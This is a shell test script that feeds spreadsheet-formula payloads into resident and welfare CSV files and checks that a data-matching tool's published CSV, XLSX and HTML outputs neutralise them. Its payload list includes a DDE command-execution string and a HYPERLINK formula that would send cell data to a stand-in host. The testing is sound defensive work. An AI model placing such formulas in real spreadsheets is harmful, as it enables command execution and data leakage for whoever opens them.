# A name that is a formula reaches no spreadsheet as one, neither by CSV nor by workbook.
# small
need python3 unzip
make_three
python3 - <<'END'
hostile = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/c calc'!A0", '=HYPERLINK("http://x/?"&A1)', "\t=1+1",
           "\r=1+1", "＝1+1", " =1+1", "'=1+1", "＠SUM(A1)", "−1+1", "＋1"]
def cell(text): return '"' + text.replace('"', '""') + '"'
residents, welfare = [], []
for i, text in enumerate(hostile):
    number = f"0010850{i:05d}"
    residents.append(f"{number},{cell(text + ' Nguyễn Văn Ất')},12/05/19{60 + i},Nam,00001")
    # the same person under other names, other dates and without a number: tasks of every kind
    welfare.append(f"{cell(text + str(i))},{cell(text + ' Nguyễn Văn Ất')},12/05/19{61 + i},Nam,{number},00001,{cell(text)},{cell(text)}")
    welfare.append(f"N{i},{cell(text + ' Nguyễn Văn At')},12/05/19{60 + i},Nữ,,00001,{cell(text)},{cell(text)}")
    welfare.append(f"D{i},{cell(text)},{cell(text)},{cell(text)},{cell(text)},{cell(text)},{cell(text)},{cell(text)}")
open("residents.csv", "a", encoding="utf-8", newline="").write("\n".join(residents) + "\n")
open("welfare.csv", "a", encoding="utf-8", newline="").write("\n".join(welfare) + "\n")
END
echo 'limits: {rejects: 1}' >>rasoat.yaml
sed -i 's/path: "welfare.csv"/path: welfare.csv, carry: [loai_tro_cap, so_tai_khoan]/' rasoat.yaml
echo 'worklist: {reveal: true}' >>rasoat.yaml
expect_exit 0 "$RASOAT" run rasoat.yaml --quiet
expect_exit 0 "$RASOAT" verify out/published
python3 - <<'END'
import csv, glob, io, re, sys, zipfile
# Columns that hold numbers of our own making; a weight may begin with a minus.
ours = {"weight", "margin", "probability", "percent", "numerator", "denominator", "line", "byte_offset", "rank", "group", "kept"}
bad, cells, books = [], 0, 0
for path in glob.glob("out/published/**/*.csv", recursive=True):
    rows = list(csv.reader(io.StringIO(open(path, encoding="utf-8-sig", newline="").read())))
    for row in rows[1:]:
        for header, value in zip(rows[0], row):
            cells += 1
            if header not in ours and value[:1] in tuple("=+-@\t\r＝＋－＠") and value:
                bad.append((path, header, value[:30]))
for path in glob.glob("out/published/worklists/*.xlsx"):
    books += 1
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            text = book.read(name).decode("utf-8", "replace")
            if "<f>" in text or "<f " in text or "externalLink" in name or "<hyperlink " in text or "vbaProject" in name:
                bad.append((path, name, "formula or link"))
if bad: sys.exit(f"{len(bad)} cells a spreadsheet would run, such as {bad[:5]}")
if cells < 300 or books < 1: sys.exit(f"only {cells} cells in {books} books were looked at")
END
# The report: what it shows of the data is text, and it loads nothing.
expect_lacks out/published/quality.html "=1+1"
expect_lacks out/published/quality.html "http://x"
